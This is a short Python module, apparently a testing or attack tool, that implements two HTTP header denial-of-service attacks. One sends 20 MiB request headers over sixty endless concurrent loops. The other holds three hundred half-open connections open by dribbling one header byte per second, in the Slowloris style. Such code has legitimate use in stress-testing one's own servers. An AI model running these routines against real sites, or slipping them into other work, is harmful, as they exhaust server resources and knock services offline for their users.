"""Attacks with the heads of requests: endless ones, and ones that are never finished."""

import asyncio
from collections import Counter
from contextlib import suppress
from typing import Final
from urllib.parse import urlsplit

PIECE: Final = b"x" * 16 * 1024
PIECES: Final = 20 * 64
AT_ONCE: Final = 60
HALF_OPEN: Final = 300
BEGUN: Final = b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept-Language: "


async def _connected(site: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    address = urlsplit(site)
    return await asyncio.open_connection(address.hostname, address.port)


async def send_long_heads(site: str, counts: "Counter[str]") -> None:
    """Send heads of 20 MiB, sixty at a time."""

    async def send() -> None:
        while True:
            reader, writer = await _connected(site)
            with suppress(OSError):
                writer.write(BEGUN)
                for _ in range(PIECES):
                    writer.write(PIECE)
                    await writer.drain()
                    counts["KiB sent"] += len(PIECE) // 1024
                writer.write(b"\r\n\r\n")
            status = b""
            with suppress(OSError):
                status = await reader.read(12)
            counts[status[9:].decode() or "cut"] += 1
            writer.close()

    await asyncio.gather(*(send() for _ in range(AT_ONCE)))


async def leave_half_open(site: str, counts: "Counter[str]") -> None:
    """Open hundreds of connections, and send a byte of a head now and then."""

    async def dribble() -> None:
        _reader, writer = await _connected(site)
        counts["opened"] += 1
        with suppress(OSError):
            writer.write(BEGUN)
            while True:
                await asyncio.sleep(1)
                writer.write(b"x")
                await writer.drain()
        counts["ended"] += 1

    await asyncio.gather(*(dribble() for _ in range(HALF_OPEN)))
